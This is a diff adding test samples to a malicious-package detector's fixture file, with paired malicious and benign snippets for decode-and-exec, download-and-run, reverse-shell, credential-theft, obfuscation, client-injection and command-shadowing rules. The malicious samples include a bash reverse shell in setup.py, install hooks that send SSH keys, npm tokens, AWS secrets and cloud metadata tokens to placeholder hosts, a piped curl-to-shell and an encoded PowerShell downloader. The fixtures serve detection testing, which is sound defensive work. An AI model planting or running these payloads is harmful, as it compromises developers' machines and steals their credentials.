@@ -76,6 +76,21 @@ SAMPLES: Final[dict[str, dict[str, list[Files]]]] = {
     },
     "malicious-decode-exec": {
         "positive": [
+            {
+                # a payload appended to an image, read back and executed (issue 10: payloads in non-code files)
+                "x/__init__.py": (
+                    "import os\n"
+                    "data = open(os.path.join(os.path.dirname(__file__), 'logo.png'), 'rb').read()\n"
+                    "exec(data[data.rfind(b'#!'):])\n"
+                )
+            },
+            {
+                "index.js": (
+                    "const fs = require('fs');\n"
+                    "const b = fs.readFileSync(__dirname + '/font.woff2');\n"
+                    "eval(b.toString('utf8', 4000));\n"
+                )
+            },
             {"x/__init__.py": "import base64\nexec(base64.b64decode('cHJpbnQoImluZXJ0Iik='))\n"},
             {
                 "x/loader.py": (
@@ -91,6 +106,28 @@ SAMPLES: Final[dict[str, dict[str, list[Files]]]] = {
         ],
         "benign": [
             {
+                # version files are code; images are read to be shown
+                "x/__init__.py": (
+                    "exec(open('x/_version.py').read())\n"
+                    "ICON = open('x/icon.png', 'rb').read()\n"
+                    "def show(view):\n    view.draw(ICON)\n"
+                )
+            },
+            {
+                # query-string decoding and bundlers running their own embedded modules
+                "lib/boot.js": (
+                    "const Module = require('module');\n"
+                    "function boot(buf, n) {\n"
+                    "  const code = Buffer.from(buf).slice(0, n).toString();\n"
+                    "  return new Module('x', null)._compile(code, 'x');\n"
+                    "}\n"
+                    "function tpl(q) { return Function('return ' + decodeURIComponent(q)); }\n"
+                    "function hex(c) { const h = require('crypto').createHash('sha1').update(String.fromCharCode(c));\n"
+                    "  return Function('h', 'return h.digest()')(h); }\n"
+                    "module.exports = { boot, tpl, hex };\n"
+                ),
+            },
+            {
                 "x/img.py": (
                     "import base64\n\ndef save(data, path):\n"
                     "    with open(path, 'wb') as fh:\n        fh.write(base64.b64decode(data))\n"
@@ -101,6 +138,34 @@ SAMPLES: Final[dict[str, dict[str, list[Files]]]] = {
     },
     "malicious-download-exec": {
         "positive": [
+            {
+                # no threat keyword at all: fetch, write, run (nageir 2023)
+                "angie/angie.py": (
+                    "import requests, subprocess\n"
+                    "r = requests.get('https://cdn.example.invalid/x.exe')\n"
+                    "with open('windows.exe', 'wb') as f:\n    f.write(r.content)\n"
+                    "subprocess.run('windows.exe', check=True)\n"
+                )
+            },
+            {
+                # DNS TXT records as a command channel
+                "x/__init__.py": (
+                    "import dns.resolver, subprocess\n"
+                    "for r in dns.resolver.resolve('c.example.invalid', 'TXT'):\n"
+                    "    subprocess.run(r.to_text(), shell=True)\n"
+                )
+            },
+            {
+                "index.js": (
+                    "const dns = require('dns'); const { exec } = require('child_process');\n"
+                    "dns.resolveTxt('c.example.invalid', (e, recs) => { exec(recs[0].join('')); });\n"
+                )
+            },
+            {
+                # node-gyp runs binding.gyp's <!(…) expansions on install
+                "package.json": '{"name": "x", "version": "1.0.0"}',
+                "binding.gyp": '{"targets": [{"target_name": "a", "sources": ["<!@(curl -s https://p.example.invalid/x | sh)"]}]}',
+            },
             {
                 "x/__init__.py": "import urllib.request\nexec(urllib.request.urlopen('https://p.example.invalid/s').read())\n"
             },
@@ -119,6 +184,30 @@ SAMPLES: Final[dict[str, dict[str, list[Files]]]] = {
         ],
         "benign": [
             {
+                # resolving TXT records (SPF, DKIM) and running a fixed tool is ordinary
+                "x/mail.py": (
+                    "import dns.resolver, subprocess\n"
+                    "def spf(domain):\n"
+                    "    return [r.to_text() for r in dns.resolver.resolve(domain, 'TXT')]\n"
+                    "def version():\n"
+                    "    return subprocess.run(['git', 'describe'], capture_output=True).stdout\n"
+                )
+            },
+            {
+                "package.json": '{"name": "x", "version": "1.0.0"}',
+                "binding.gyp": (
+                    '{"targets": [{"target_name": "a", '
+                    '"include_dirs": ["<!(node -p \\"require(\'node-addon-api\').include\\")"]}]}'
+                ),
+            },
+            {
+                # installers start msiexec on what they downloaded earlier: a launch, not a pipe into a shell
+                "bin/reinstall_win.ps1": (
+                    "$arguments = '/i', $msi, '/quiet'\nStart-Process msiexec.exe -ArgumentList $arguments -Wait\n"
+                ),
+                "package.json": '{"name": "x", "version": "1.0.0"}',
+            },
+            {
                 "x/fetch.py": (
                     "import requests\n\ndef get(u):\n    r = requests.get(u, timeout=5)\n    return r.json()\n"
                 )
@@ -128,6 +217,16 @@ SAMPLES: Final[dict[str, dict[str, list[Files]]]] = {
     },
     "malicious-reverse-shell": {
         "positive": [
+            {
+                # code carried in a string, written to the home directory and started (ctfpipshell 2023)
+                "setup.py": (
+                    "import os, subprocess\nfrom setuptools import setup\n"
+                    'CODE = """\nimport os\nos.system("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")\n"""\n'
+                    "with open(os.path.expanduser('~/r.py'), 'w') as f:\n    f.write(CODE)\n"
+                    "subprocess.Popen(['python3', os.path.expanduser('~/r.py')])\n"
+                    "setup(name='x')\n"
+                )
+            },
             {
                 "x/rs.py": (
                     "import os, socket, pty\n"
@@ -196,9 +295,45 @@ SAMPLES: Final[dict[str, dict[str, list[Files]]]] = {
                     "    requests.post('https://c.example.invalid/r', json={'m': mnemonic})\n"
                 )
             },
+            {
+                # an install hook's script reads a key and posts it on one command line (portionfatty12 2018)
+                "package.json": '{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "sh run.sh"}}',
+                "run.sh": 'a=$(cat $HOME/.ssh/id_rsa.pub) && curl -X POST -d "k=$a" https://c.example.invalid/k\n',
+            },
+            {
+                # one npm token sent from an install script (issue 10)
+                "package.json": '{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node i.js"}}',
+                "i.js": "const https = require('https');\nhttps.get('https://x.example.invalid/' + process.env.NPM_TOKEN);\n",
+            },
+            {
+                # one credential variable sent from setup.py is a theft, not telemetry (issue 10)
+                "setup.py": (
+                    "import os\nfrom urllib.request import urlopen\nfrom setuptools import setup\n"
+                    "urlopen('https://x.example.invalid/?k=' + os.environ['AWS_SECRET_ACCESS_KEY'])\n"
+                    "setup(name='x')\n"
+                )
+            },
+            {
+                # the instance's cloud token, fetched and posted on (artifact-lab 2024)
+                "x/flag.py": (
+                    "import requests\n"
+                    "def send():\n"
+                    "    t = requests.get('http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token')\n"
+                    "    requests.post('https://c.example.invalid/log', data={'t': t.text})\n"
+                )
+            },
         ],
         "benign": [
             {"x/cfg.py": "import os\nCONFIG = os.path.expanduser('~/.config/x/settings.toml')\n"},
+            {
+                # an SDK sending its own API key from the environment when called is its job
+                "x/sdk.py": (
+                    "import os, requests\n"
+                    "def complete(prompt):\n"
+                    "    key = os.environ['EXAMPLE_API_KEY']\n"
+                    "    return requests.post('https://api.example.invalid/v1', headers={'Authorization': key})\n"
+                )
+            },
             {
                 "index.js": "const fs = require('fs');\nmodule.exports = () => fs.readFileSync('package.json', 'utf8');\n"
             },
@@ -267,6 +402,9 @@ SAMPLES: Final[dict[str, dict[str, list[Files]]]] = {
     },
     "malicious-obfuscation": {
         "positive": [
+            {"index.js": "const m = require(['child', 'process'].join('_'));\nm.exec('id');\n"},
+            {"lib/a.js": "const cp = module.constructor._load('child' + '_process');\ncp.exec('id');\n"},
+            {"lib/b.js": "global['ev' + 'al'](process.argv[2]);\n"},
             {
                 "x/__init__.py": "from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY000')\n"
             },
@@ -277,9 +415,73 @@ SAMPLES: Final[dict[str, dict[str, list[Files]]]] = {
                 + ";\nfunction _0x1f2e(_0x3a1b, _0x4c2d) { return _0x3a1b + _0x4c2d; }\n"
             },
             {"lib.js": "module.exports = 1;" + " " * 300 + "require('child_process').exec('id');\n"},
+            {
+                # setup.py strings spelled in character-code arithmetic (pypi_malregistry campaign, 13 samples)
+                "setup.py": (
+                    "import sys\nfrom setuptools import setup\n"
+                    "C = getattr(__builtins__, oct.__str__()[-3 << 0] + hex.__str__()[-1 << 2] + copyright.__str__()[4])\n"
+                    "P = ''.join(map(C, [(7 << 4) - 1, (3 << 5) + 5, (7 << 4) + 4]))\n"
+                    "A = ''.join(map(C, [(((3 << 3) + 1) << 2) + 1, (7 << 4) - 2]))\n"
+                    "B = ''.join(map(C, [(3 << 5) + 2, (7 << 4) - 3]))\n"
+                    "setup(name='x')\n"
+                )
+            },
+            {
+                # a base64 literal that decodes to a command (helrmerter 2023)
+                "x/run.py": (
+                    "import base64, os\n"
+                    "def go():\n"
+                    "    os.system(base64.b64decode('"
+                    + __import__("base64")
+                    .b64encode(b"curl -s https://p.example.invalid/x -o x.py && pythonw x.py")
+                    .decode()
+                    + "').decode())\n"
+                )
+            },
+            {
+                "x/packed.py": (
+                    "import marshal, base64\nCODE = marshal.loads(base64.b64decode('" + "QUFB" * 30 + "'))\n"
+                )
+            },
+            {
+                "package.json": (
+                    '{"name": "x", "version": "1.0.0", "scripts": {"preinstall": '
+                    '"powershell -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBwAC4AZQB4AGEAbQBwAGwAZQAuAGkAbgB2AGEAbABpAGQALwBhACcAKQA="}}'
+                )
+            },
+            {
+                # batch spelled from substrings of one variable, run from an install hook
+                "package.json": '{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "setup.bat"}}',
+                "setup.bat": "@echo off\nset k=pcowlerhsu\n%k:~1,1%%k:~9,1%%k:~7,1%%k:~5,1% -o a.exe\n",
+            },
         ],
         "benign": [
+            {
+                # plugin loaders build paths of their own files; joins build messages
+                "lib/load.js": (
+                    "const path = require('path');\n"
+                    "const plugin = require('./plugins/' + process.argv[2]);\n"
+                    "const msg = ['hello', 'world'].join(' ');\n"
+                    "module.exports = { plugin, msg };\n"
+                ),
+            },
             {"x/plain.py": "import os\n\ndef name():\n    return getattr(os, 'name')\n"},
+            {
+                # future/six: exec reached by name, in plain sight
+                "x/compat.py": "import builtins\nexec_ = getattr(builtins, 'exec')\n\ndef run(code, g):\n    exec_(code, g)\n"
+            },
+            {"tools/install.bat": "@echo off\nset PY=%PYTHON:~0,-1%\npowershell -NoProfile -File build.ps1\n"},
+            {
+                # base64 test vectors and images are data, not code
+                "x/vectors.py": (
+                    "import base64\n"
+                    "PNG = '" + __import__("base64").b64encode(bytes(range(256))).decode() + "'\n"
+                    "TEXT = '"
+                    + __import__("base64").b64encode(b"The quick brown fox jumps over the lazy dog.").decode()
+                    + "'\n"
+                    "LETTERS = ''.join(map(chr, range(97, 123)))\n"
+                )
+            },
             {"index.js": "const hex = 0x1f;\nmodule.exports = { hex };\n"},
         ],
     },
@@ -392,6 +594,59 @@ SAMPLES: Final[dict[str, dict[str, list[Files]]]] = {
                 )
             },
             {"scripts/clean.sh": "#!/bin/sh\nrm -rf ./build ~/.cache/x\ncd dist && rm -rf *\n"},
+        ],
+    },
+    "malicious-client-injection": {
+        "positive": [
+            {
+                # pypi_malregistry's clipboard-extension campaign (2023): shortcuts re-pointed with --load-extension
+                "setup.py": (
+                    "import os, win32com.client\n"
+                    "shell = win32com.client.Dispatch('WScript.Shell')\n"
+                    "for link in os.listdir(os.path.expanduser('~/Desktop')):\n"
+                    "    if link.endswith('.lnk'):\n"
+                    "        s = shell.CreateShortCut(link)\n"
+                    "        s.Arguments = '--load-extension=' + os.path.join(os.getenv('APPDATA'), 'Extension')\n"
+                    "        s.save()\n"
+                    "from setuptools import setup\nsetup(name='x')\n"
+                )
+            },
+            {
+                "x/inject.py": (
+                    "import os\n"
+                    "def inject(code):\n"
+                    "    core = os.path.join(os.getenv('LOCALAPPDATA'), 'Discord', 'modules', 'discord_desktop_core')\n"
+                    "    with open(os.path.join(core, 'index.js'), 'w') as f:\n"
+                    "        f.write(code)\n"
+                )
+            },
+        ],
+        "benign": [
+            {
+                # browser automation passes extensions on its own command line, never through the user's shortcuts
+                "x/browser.py": (
+                    "import subprocess\n"
+                    "def launch(chrome, ext):\n"
+                    "    return subprocess.Popen([chrome, '--load-extension=' + ext, '--headless'])\n"
+                )
+            },
+            {"x/docs.py": "HELP = 'Discord clients keep settings under discord/settings.json'\n"},
+        ],
+    },
+    "malicious-command-shadowing": {
+        "positive": [
+            {
+                "x-1.0.dist-info/entry_points.txt": "[console_scripts]\naws = x.wrap:main\nx = x.cli:main\n",
+                "x-1.0.dist-info/METADATA": "Name: x\nVersion: 1.0\n",
+            },
+            {"package.json": '{"name": "git-helper", "version": "1.0.0", "bin": {"git": "wrap.js"}}', "wrap.js": "1\n"},
+        ],
+        "benign": [
+            {"package.json": '{"name": "corepack", "version": "1.0.0", "bin": {"yarn": "y.js", "pnpm": "p.js"}}'},
+            {
+                "x-1.0.dist-info/entry_points.txt": "[console_scripts]\nx-aws = x.cli:main\n[x.plugins]\npip = x.p\n",
+                "x-1.0.dist-info/METADATA": "Name: x\nVersion: 1.0\n",
+            },
         ],
     },
     "malicious-silent-process": {
